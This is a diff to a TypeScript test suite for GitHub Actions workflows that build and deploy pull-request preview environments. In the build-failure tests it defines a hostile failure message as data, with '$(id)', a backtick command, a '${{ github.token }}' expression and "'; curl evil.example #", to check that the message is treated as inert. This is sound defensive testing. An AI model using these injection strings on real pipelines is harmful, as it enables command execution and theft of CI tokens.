@@ -12,6 +12,7 @@ import { actionNames } from '../../scripts/action-manifest.ts'
 import { createRunnerHarness, type RunnerHarness } from '../support/emulator/runner-harness.ts'
 
 const OUTPUTS: Readonly<Record<string, Readonly<Record<string, string>>>> = {
+  'preview-announce': { state: 'building' },
   'build-from-buildpack': { image: 'oci:/tmp/image' },
   'push-ecr': { image: '1.dkr.ecr.eu-west-1.amazonaws.com/my-app@sha256:00' },
   'preview-env-up': { state: 'ready', url: 'https://my-app-pr-7.example.com' },
@@ -21,7 +22,9 @@ const RECORDER = `
 const { appendFileSync } = require('node:fs')
 const inputs = Object.fromEntries(Object.entries(process.env).filter(([name]) => name.startsWith('INPUT_')).map(([name, value]) => [name.slice(6).toLowerCase(), value]))
 appendFileSync(process.env.RECORD, JSON.stringify({ action: ACTION, inputs, oidc: process.env.ACTIONS_ID_TOKEN_REQUEST_URL !== undefined }) + '\\n')
-for (const [name, value] of Object.entries({ ...OUTPUTS, ...JSON.parse(process.env.COMMANDED || '{}')[ACTION] })) appendFileSync(process.env.GITHUB_OUTPUT, name + '=' + value + '\\n')
+const { fails, ...commanded } = JSON.parse(process.env.COMMANDED || '{}')[ACTION] ?? {}
+for (const [name, value] of Object.entries({ ...OUTPUTS, ...commanded })) appendFileSync(process.env.GITHUB_OUTPUT, name + '=' + value + '\\n')
+if (fails !== undefined) process.exitCode = 1
 `
 
 interface Recorded {
@@ -55,6 +58,10 @@ beforeAll(async () => {
       readdirSync('examples/workflows')
         .filter((file) => file.startsWith('preview'))
         .map((file) => [`.github/workflows/${file}`, readFileSync(`examples/workflows/${file}`, 'utf8')]),
+    ),
+    '.github/workflows/preview-labeled.yml': readFileSync('examples/workflows/preview.yml', 'utf8').replace(
+      '      app: my-app\n',
+      '      app: my-app\n      label: preview\n',
     ),
     Procfile: 'web: node server.js\n',
   })
@@ -116,15 +123,17 @@ describe('a push to a pull request', () => {
   it('builds its head, pushes the image under its number, and brings the preview up', async () => {
     const { result, recorded, actions } = await play('preview.yml', 'pull_request', { payload: pull() })
     expect(result.conclusion).toBe('success')
-    expect(actions).toEqual(['build-from-buildpack', 'push-ecr', 'preview-env-up'])
-    expect(recorded.every(({ oidc }) => oidc)).toBe(true)
-    expect(recorded[0]?.inputs).toMatchObject({ environment: 'review' })
-    expect(recorded[1]?.inputs).toMatchObject({
+    expect(actions).toEqual(['preview-announce', 'build-from-buildpack', 'push-ecr', 'preview-env-up'])
+    // What only talks to GitHub has no way to AWS.
+    expect(recorded.map(({ oidc }) => oidc)).toEqual([false, true, true, true])
+    expect(recorded[0]?.inputs).toMatchObject({ app: 'my-app', operation: 'building', 'pull-request': '7' })
+    expect(recorded[1]?.inputs).toMatchObject({ environment: 'review' })
+    expect(recorded[2]?.inputs).toMatchObject({
       repository: 'my-app-previews',
       tags: `pr-7-${head}`,
       'role-to-assume': 'arn:aws:iam::123456789012:role/my-app-preview-build',
     })
-    expect(recorded[2]?.inputs).toMatchObject({
+    expect(recorded[3]?.inputs).toMatchObject({
       app: 'my-app',
       'pull-request': '7',
       sha: head,
@@ -145,6 +154,94 @@ describe('a push to a pull request', () => {
     const ran = result.jobs.filter(({ conclusion }) => conclusion !== 'skipped')
     expect(ran.map(({ name }) => name)).toEqual(['preview / No preview'])
     expect(JSON.stringify(ran)).toContain('/preview up')
+  })
+})
+
+describe('a build that fails', () => {
+  const told = JSON.stringify({ reason: '$(id) `id` ${{ github.token }}', lines: ["'; curl evil.example #"] })
+
+  it('is said on the pull request, as data', async () => {
+    const { result, recorded, actions } = await play('preview.yml', 'pull_request', {
+      payload: pull(),
+      commanded: { 'build-from-buildpack': { fails: 'yes', failure: told } },
+    })
+    expect(result.conclusion).toBe('failure')
+    expect(actions).toEqual(['preview-announce', 'build-from-buildpack', 'preview-announce'])
+    expect(recorded.at(-1)).toMatchObject({
+      oidc: false,
+      inputs: { operation: 'build-failed', failure: told, sha: head },
+    })
+  })
+
+  it('after a command is said there too', async () => {
+    const { recorded, actions } = await play('preview-command.yml', 'issue_comment', {
+      payload: {
+        action: 'created',
+        issue: { number: 7, pull_request: { url: 'x' } },
+        comment: { id: 1, body: '/preview up', user: { login: 'maria', type: 'User' } },
+      },
+      commanded: {
+        'preview-command': { command: 'up', 'pull-request': '7', sha: head, 'approved-sha': head },
+        'build-from-buildpack': { fails: 'yes', failure: told },
+      },
+    })
+    expect(actions).toEqual([
+      'preview-command',
+      'preview-announce',
+      'build-from-buildpack',
+      'preview-announce',
+    ])
+    expect(recorded.at(-1)?.inputs).toMatchObject({
+      operation: 'build-failed',
+      failure: told,
+      sha: head,
+      'approved-sha': head,
+      bots: 'allow',
+      drafts: 'allow',
+    })
+  })
+})
+
+describe('a pull request that gets no preview', () => {
+  it('is not built, and what it had is taken down while it is open', async () => {
+    const { result, recorded, actions } = await play('preview.yml', 'pull_request', {
+      payload: pull(),
+      commanded: { 'preview-announce': { state: 'refused' } },
+    })
+    expect(result.conclusion).toBe('success')
+    expect(actions).toEqual(['preview-announce', 'preview-env-down'])
+    expect(recorded[1]?.inputs).toMatchObject({ 'pull-request': '7', 'while-open': 'true' })
+  })
+})
+
+describe('labels', () => {
+  const labeled = (action: string, label: string) => ({
+    ...pull({}, action),
+    label: { name: label },
+  })
+  const UP = ['preview-announce', 'build-from-buildpack', 'push-ecr', 'preview-env-up']
+
+  it.each([
+    ['labeled', 'Preview', UP],
+    ['unlabeled', 'bug', []],
+  ])('%s %j', async (action, label, expected) => {
+    const { result, actions } = await play('preview-labeled.yml', 'pull_request', {
+      payload: labeled(action, label),
+    })
+    expect(['success', 'skipped']).toContain(result.conclusion)
+    expect(actions).toEqual(expected)
+  })
+
+  it('start nothing where none is required', async () => {
+    const { actions } = await play('preview.yml', 'pull_request', { payload: labeled('labeled', 'bug') })
+    expect(actions).toEqual([])
+  })
+
+  it('start the example', () => {
+    const { on }: { on: { pull_request: { types: readonly string[] } } } = parse(
+      readFileSync('examples/workflows/preview.yml', 'utf8'),
+    )
+    expect(on.pull_request.types).toEqual(expect.arrayContaining(['labeled', 'unlabeled']))
   })
 })
 
@@ -180,7 +277,7 @@ describe('a comment', () => {
   })
 
   it.each<[string, readonly string[]]>([
-    ['up', ['preview-command', 'build-from-buildpack', 'push-ecr', 'preview-env-up']],
+    ['up', ['preview-command', 'preview-announce', 'build-from-buildpack', 'push-ecr', 'preview-env-up']],
     ['wake', ['preview-command', 'preview-env-up']],
     ['keep', ['preview-command', 'preview-env-up']],
     ['reset-db', ['preview-command', 'preview-env-up']],
@@ -207,6 +304,10 @@ describe('a comment', () => {
       commanded: outputs('up', head),
     })
     expect(recorded.at(-1)?.inputs).toMatchObject({ sha: head, 'approved-sha': head })
+    // Whoever may command has asked for it: drafts and bots get what preview.yml promises them.
+    for (const { action, inputs } of recorded)
+      if (/preview-(announce|env-up)$/.test(action))
+        expect(inputs).toMatchObject({ bots: 'allow', drafts: 'allow', 'approved-sha': head })
   })
 
   it.each([
